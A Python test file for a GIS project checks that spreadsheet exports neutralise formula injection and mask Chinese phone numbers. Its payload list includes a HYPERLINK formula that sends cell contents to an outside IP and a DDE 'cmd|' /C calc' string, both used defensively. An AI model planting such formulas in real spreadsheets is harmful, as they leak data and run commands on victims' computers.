"""Exports a visitor or an office may open in a spreadsheet: no cell runs as a formula,
and no phone number leaks through an extra column, a country code or a numeric cell."""

from __future__ import annotations

import csv

import geopandas as gpd
import openpyxl
import pandas as pd
import pytest
import shapely

from gis.io.findings import defuse_formulas, defuse_text, export_store, write_findings
from gis.privacy import mask_frame, mask_text
from gis.store import MemoryStore

PAYLOADS = [
    '=HYPERLINK("http://203.0.113.9/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_leads_get_a_quote(value):
    assert defuse_text(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["-12.5", "+3", "1e-3", "黄沟江", "", "a=b", "512099C0001", None, 3.5]
)
def test_plain_values_are_unchanged(value):
    assert defuse_text(value) == value


def _hostile_table() -> pd.DataFrame:
    return pd.DataFrame(
        {"name": PAYLOADS, "n": range(len(PAYLOADS)), "=bad": ["x"] * len(PAYLOADS)}
    )


def test_xlsx_has_no_formula_cells_read_back(tmp_path):
    (path,) = write_findings({"findings": _hostile_table()}, tmp_path / "f.xlsx")
    sheet = openpyxl.load_workbook(path)["findings"]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    header = [c.value for c in sheet[1]]
    assert header == ["name", "n", "'=bad"]
    # the workbook stores a CR as a line feed: compare line ends alike
    assert [c.value for c in sheet["A"][1:]] == ["'" + p.replace("\r", "\n") for p in PAYLOADS]
    assert [c.value for c in sheet["B"][1:]] == list(range(len(PAYLOADS)))  # numbers stay numbers


def test_csv_cells_are_quoted_read_back(tmp_path):
    (path,) = write_findings({"findings": _hostile_table()}, tmp_path / "f.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == ["name", "n", "'=bad"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS]


def test_store_export_defuses_names(tmp_path):
    rivers = gpd.GeoDataFrame(
        {"river_code": ["R1"], "name": ["=1+1"], "management_level": ["county"]},
        geometry=[shapely.LineString([(105, 30), (105.01, 30.01)])],
        crs=4490,
    )
    store = MemoryStore({"rivers": rivers})
    (path,) = export_store(store, tmp_path / "c.xlsx", layers=["rivers"])
    sheet = openpyxl.load_workbook(path)["rivers"]
    names = {c.value for c in sheet["B"]} | {c.value for row in sheet.iter_rows() for c in row}
    assert "'=1+1" in names and "=1+1" not in names
    assert defuse_formulas(rivers)["name"].iloc[0] == "'=1+1"
    assert rivers["name"].iloc[0] == "=1+1"  # a copy


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("+8613812345678", "+86138****5678"),
        ("+86 138 1234 5678", "+86 138 **** 5678"),
        ("0086-13812345678", "0086-138****5678"),
        ("(0838)1234567", "(083*)***4567"),
        ("（0838）1234567", "（083*）***4567"),
        ("0838 1234567", "083* ***4567"),
        ("办公 0838-1234567-12", "办公 083*-*****67-12"),
    ],
)
def test_phone_forms_in_text_are_masked(text, masked):
    assert mask_text(text) == masked


def test_extra_columns_and_numeric_phones_are_masked():
    # columns an import kept from an office's register, as Excel gives them
    df = pd.DataFrame(
        {
            "chief_id": ["512099C0001", "512099C0002"],
            "admin_code": ["512099102203", "512099"],
            "手机": [13812345678, 13987654321],
            "联系电话": [8381234567.0, None],
            "备注": ["call +8613800001111", "(0838)7654321"],
            "extra": [13700001111, 7],
            "population": [512099102203, 1200],
        }
    )
    m = mask_frame(df)
    assert m["手机"].tolist() == ["138****5678", "139****4321"]
    assert m["联系电话"].iloc[0] == "838***4567" and pd.isna(m["联系电话"].iloc[1])
    assert m["备注"].tolist() == ["call +86138****1111", "(083*)***4321"]
    assert m["extra"].tolist() == ["137****1111", 7]
    assert (
        m["population"].tolist() == [512099102203, 1200]
        and m["admin_code"].tolist() == df["admin_code"].tolist()
    )
    for col in m.columns:  # no unmasked 11-digit mobile anywhere
        assert not m[col].astype(str).str.contains(r"1[3-9]\d{9}").any(), col


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_rejects_file_has_no_formula_cells(tmp_path, demo_copy, suffix):
    from gis.io.importer import import_file

    src = tmp_path / f"sources{suffix}"
    # a workbook would store "=..." as a formula itself: "+..." and "@..." are text in both
    table = pd.DataFrame(
        {
            "source_code": ["A1", "A2"],
            "名称": ["+cmd|' /C calc'!A0", "@SUM(1)"],
            "source_type": ["河流型", "河流型"],
            "population_served": [10, 20],
            "has_official_zone": ["是", "否"],
            "经度": ["abc", "-1+1"],
            "纬度": ["30.3", "30.3"],
        }
    )
    table.to_csv(src, index=False) if suffix == ".csv" else table.to_excel(src, index=False)
    rep = import_file(
        src, "water_sources", data=demo_copy, dry_run=True, rejects=tmp_path / "rejects.csv"
    )
    assert len(rep.rejected) == 2
    with open(rep.rejects_file, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    cells = [c for r in rows for c in r]
    assert "'+cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells and "'-1+1" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and c != "-")]
